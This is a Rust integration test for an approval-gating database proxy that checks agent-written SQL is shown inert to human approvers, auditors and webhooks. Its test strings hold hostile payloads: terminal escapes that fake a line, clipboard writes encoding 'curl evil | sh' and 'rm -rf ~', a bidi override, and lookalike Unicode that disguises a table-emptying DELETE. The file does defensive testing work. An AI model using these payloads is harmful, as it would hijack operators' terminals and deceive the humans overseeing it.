//! Agent-controlled text reaches people inert (issue 18: items 1, 7, 10 and 13's webhook part).
//! Real proctor, real PostgreSQL and psql, a real local HTTP receiver, and the CLI run under a
//! real pty (`script`): a held statement full of terminal escapes, chat mark-up and a bidi
//! override is shown whole with its escapes as tokens, a user name of a refused connection
//! cannot act on the auditor's terminal, and a hold's webhook is delivered, in full and
//! escaped, although a storm of alerts overflows the queue while the receiver is stuck.

mod api_support;

use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use api_support::*;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use serde_json::{Value, json};

/// Runs the proctor CLI under a pseudo-terminal (`script`), as a person would see it: returns
/// every byte the terminal received.
fn on_a_terminal(args: &[&str]) -> Vec<u8> {
    let mut cmd = shell_quote(env!("CARGO_BIN_EXE_proctor"));
    for a in args {
        cmd.push(' ');
        cmd.push_str(&shell_quote(a));
    }
    let out = Command::new("script")
        .args(["-q", "-e", "-c", &cmd, "/dev/null"])
        .stdin(Stdio::null())
        .output()
        .expect("script (util-linux) runs");
    assert!(
        out.status.success(),
        "{cmd}: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// What a terminal would obey: ESC, the 8-bit CSI/OSC/DCS forms, BEL, bidi overrides.
fn assert_inert(bytes: &[u8], what: &str) {
    let text = String::from_utf8_lossy(bytes);
    assert!(!bytes.contains(&0x1b), "{what}: raw ESC in {text}");
    assert!(!bytes.contains(&0x07), "{what}: raw BEL in {text}");
    for c in [
        '\u{9b}', '\u{9d}', '\u{90}', '\u{202e}', '\u{2066}', '\u{200b}',
    ] {
        assert!(!text.contains(c), "{what}: raw {c:?} in {text}");
    }
}

#[derive(Clone)]
struct Receiver {
    hits: Arc<Mutex<Vec<(String, Value)>>>,
    open: tokio::sync::watch::Receiver<bool>,
}

/// Records each delivery, then answers only once the test opens the gate: a stuck receiver.
async fn receive(
    State(r): State<Receiver>,
    headers: HeaderMap,
    body: axum::body::Bytes,
) -> StatusCode {
    let event = headers
        .get("x-proctor-event")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string();
    let body: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    r.hits.lock().unwrap().push((event, body));
    let mut open = r.open.clone();
    let _ = open.wait_for(|o| *o).await;
    StatusCode::OK
}

const ALERT_ON_READS: &str = r#"
[[rule]]
name = "alert-on-reads"
action = "alert"
protocol = "postgres"
class = ["read"]
reason = "every read raises an alert (alert storm)"
"#;

/// The repaint from the issue (line erased, fake text written), OSC 52 to the clipboard, an
/// OSC 2 title, chat mark-up and a Trojan Source override, all inside a comment.
const HOSTILE: &str = "DELETE FROM t -- \x1b[G\x1b[2KDELETE FROM t_staging \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]2;owned\x1b\\ <!channel> <https://evil.example|docs> /*\u{202e} 24=di EREHW */";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_text_reaches_people_inert() {
    let (open_tx, open_rx) = tokio::sync::watch::channel(false);
    let receiver = Receiver {
        hits: Arc::default(),
        open: open_rx,
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let app = axum::Router::new()
        .route("/gate", axum::routing::post(receive))
        .with_state(receiver.clone());
    let server = tokio::spawn(async move { axum::serve(listener, app).await });
    let secrets = tempfile::tempdir().unwrap();
    let secret_file = secrets.path().join("chat.secret");
    std::fs::write(&secret_file, "chat-secret").unwrap();
    let extra = format!(
        "[[webhooks]]\nname = \"chat\"\nurl = \"http://{addr}/gate\"\nsecret_file = \"{}\"\nevents = [\"hold\", \"alert\"]\nqueue = 2\n",
        secret_file.display()
    );
    let mut p = Proctor::start_with(&extra, Some(ALERT_ON_READS)).await;
    let data = p.dir.path().join("data");
    let hits = |kind: &str| -> Vec<Value> {
        receiver
            .hits
            .lock()
            .unwrap()
            .iter()
            .filter(|(k, _)| k == kind)
            .map(|(_, b)| b.clone())
            .collect()
    };

    // An alert the receiver is stuck on.
    let out = p
        .psql(AGENT_B, SECRET_B, "select 1")
        .wait_with_output()
        .await
        .unwrap();
    assert!(out.status.success());
    let deadline = Instant::now() + Duration::from_secs(10);
    while hits("alert").is_empty() {
        assert!(Instant::now() < deadline, "the first alert never arrived");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }

    // The hostile statement is held (DELETE without WHERE)...
    let psql = p.psql(AGENT_A, SECRET_A, HOSTILE);
    let hold = p.wait_for_hold("DELETE FROM t --").await;
    let approval_id = hold["id"].as_str().unwrap().to_string();
    assert_eq!(
        hold["detail"], HOSTILE,
        "the approval queue holds the exact text"
    );
    // ... then an alert storm, far more than the queue of two.
    for _ in 0..3 {
        let out = p
            .psql(AGENT_B, SECRET_B, "select 1; select 2; select 3; select 4")
            .wait_with_output()
            .await
            .unwrap();
        assert!(out.status.success());
    }
    open_tx.send(true).unwrap();
    let deadline = Instant::now() + Duration::from_secs(15);
    let body = loop {
        if let Some(b) = hits("hold").into_iter().next() {
            break b;
        }
        assert!(
            Instant::now() < deadline,
            "the hold's webhook was never delivered: {:?}",
            receiver
                .hits
                .lock()
                .unwrap()
                .iter()
                .map(|(k, _)| k.clone())
                .collect::<Vec<_>>()
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    let order: Vec<String> = receiver
        .hits
        .lock()
        .unwrap()
        .iter()
        .map(|(k, _)| k.clone())
        .collect();
    assert_eq!(
        order[1], "hold",
        "the hold goes out right after the stuck alert: {order:?}"
    );
    assert_eq!(body["data"]["approval_id"], approval_id.as_str());
    let detail = body["hold"]["detail"]
        .as_str()
        .expect("the held statement in full");
    assert_eq!(
        detail,
        "DELETE FROM t -- \\x1b[G\\x1b[2KDELETE FROM t_staging \\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b]2;owned\\x1b\\ &lt;!channel&gt; &lt;https://evil.example|docs&gt; /*&lt;U+202E&gt; 24=di EREHW */"
    );
    let raw = serde_json::to_string(&body).unwrap();
    assert!(!raw.contains('<') && !raw.contains('\u{202e}'), "{raw}");
    assert_eq!(body["hold"]["agent"], AGENT_A);
    assert_eq!(body["hold"]["rule"], "pg-hold-unqualified-dml");

    // The approver's terminal: the whole statement, every escape shown, none obeyed.
    let shown = on_a_terminal(&["approvals", "list", "--data", data.to_str().unwrap()]);
    assert_inert(&shown, "approvals list");
    let text = String::from_utf8_lossy(&shown);
    assert!(
        text.contains("DELETE FROM t -- \\x1b[G\\x1b[2KDELETE FROM t_staging \\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b]2;owned\\x1b\\ <!channel> <https://evil.example|docs> /*<U+202E> 24=di EREHW */"),
        "{text}"
    );
    assert!(text.contains(&approval_id), "{text}");
    let (s, _) = p
        .post(
            APPROVER,
            &format!("/api/approvals/{approval_id}/deny"),
            json!({ "reason": "no" }),
        )
        .await;
    assert_eq!(s, 200);
    assert!(!psql.wait_with_output().await.unwrap().status.success());

    // An unauthenticated peer names itself with a clipboard write and a forged log line.
    let ghost = "ghost\x1b]52;c;cm0gLXJmIH4=\x07\n2026-12-07T00:00:00Z INFO session opened privilege=\"break-glass\"";
    let out = tokio::process::Command::new("psql")
        .arg(format!(
            "host=127.0.0.1 port={} dbname=appdb sslmode=disable",
            p.pg_addr.port()
        ))
        .args(["-X", "-c", "select 1"])
        .env("PGUSER", ghost)
        .env("PGPASSWORD", "whatever")
        .env("PGCONNECT_TIMEOUT", "10")
        .stdin(Stdio::null())
        .output()
        .await
        .unwrap();
    assert!(!out.status.success(), "an unknown agent is refused");
    // Before authentication nobody is known: no session, only counts and an inert example in
    // the journal's `unauthenticated` summary (written at the latest when proctor stops).
    let shown = on_a_terminal(&["sessions", "list", "--data", data.to_str().unwrap()]);
    assert!(!String::from_utf8_lossy(&shown).contains("ghost"));
    let kept = std::mem::replace(&mut p.dir, tempfile::tempdir().unwrap());
    p.stop().await;
    server.abort();
    let exported = Command::new(env!("CARGO_BIN_EXE_proctor"))
        .args(["export", JOURNAL, "--format", "jsonl", "--data"])
        .arg(&data)
        .env("NO_COLOR", "1")
        .stdin(Stdio::null())
        .output()
        .expect("export the journal")
        .stdout;
    assert_inert(&exported, "journal export");
    let agents: Vec<String> = String::from_utf8_lossy(&exported)
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l.trim()).ok())
        .filter(|r| r["topic"] == "unauthenticated")
        .filter_map(|r| serde_json::from_str::<serde_json::Value>(r["text"].as_str()?).ok())
        .flat_map(|s| s["sources"].as_array().cloned().unwrap_or_default())
        .flat_map(|s| s["examples"].as_array().cloned().unwrap_or_default())
        .filter_map(|e| e["agent"].as_str().map(String::from))
        .collect();
    assert!(
        agents.iter().any(|a| a == "ghost\\x1b]52;c;cm0gLXJmIH4=\\x07\\n2026-12-07T00:00:00Z INFO session opened privilege=\"break-glass\""),
        "{agents:?}"
    );
    drop(kept);
}

/// Round 3: text that *looks* like something else. An en space (U+2002) is a letter to
/// PostgreSQL, so `x<U+2002>WHERE<U+2002>id<U+2002>IS<U+2002>NULL` is one alias and the DELETE
/// has no WHERE: before the fix the card read as deleting nothing, was approved, and emptied
/// the table. Cyrillic letters inside ASCII words, a slash overlay that turns `=` into a
/// not-equal sign, a strike-through and a stack of accents are shown as code points too, in
/// `approvals list`, `approvals show` and `replay` under a real pty.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lookalike_text_is_shown_for_what_it_is() {
    let p = Proctor::start("").await;
    let data = p.dir.path().join("data");
    let data = data.to_str().unwrap();
    let sql = "DELETE FROM t x\u{2002}WHERE\u{2002}id\u{2002}IS\u{2002}NULL /* \u{430}ccounts \u{51d}here id =\u{338} 1, z\u{300}\u{301}\u{302}\u{303}\u{304}, D\u{336}ROP */";
    let shown_sql = "DELETE FROM t x<U+2002>WHERE<U+2002>id<U+2002>IS<U+2002>NULL /* <U+0430>ccounts <U+051D>here id =<U+0338> 1, z\u{300}\u{301}<U+0302><U+0303><U+0304>, D<U+0336>ROP */";
    let psql = p.psql(AGENT_A, SECRET_A, sql);
    let hold = p.wait_for_hold("DELETE FROM t x").await;
    assert_eq!(hold["detail"], sql, "the queue holds the exact text");
    assert_eq!(hold["rule"], "pg-hold-unqualified-dml", "{hold}");
    let id = hold["id"].as_str().unwrap().to_string();
    let session = hold["session_id"].as_str().unwrap().to_string();

    for args in [
        vec!["approvals", "list", "--data", data],
        vec!["approvals", "show", &id, "--data", data],
    ] {
        let out = on_a_terminal(&args);
        assert_inert(&out, &args.join(" "));
        let text = String::from_utf8_lossy(&out);
        assert!(text.contains(shown_sql), "{args:?}: {text}");
        for c in [
            '\u{2002}', '\u{430}', '\u{51d}', '\u{338}', '\u{336}', '\u{302}',
        ] {
            assert!(!text.contains(c), "{args:?}: raw {c:?} in {text}");
        }
    }

    let (s, _) = p
        .post(
            APPROVER,
            &format!("/api/approvals/{id}/deny"),
            json!({ "reason": "not what it looks like" }),
        )
        .await;
    assert_eq!(s, 200);
    assert!(!psql.wait_with_output().await.unwrap().status.success());
    // Ground truth: nothing was deleted.
    assert_eq!(p.pg.psql("app", "select count(*) from t").unwrap(), "5");

    // The auditor's replay shows the same tokens.
    let out = on_a_terminal(&["replay", &session, "--step", "--data", data]);
    assert_inert(&out, "replay");
    assert!(String::from_utf8_lossy(&out).contains(shown_sql));
    p.stop().await;
}
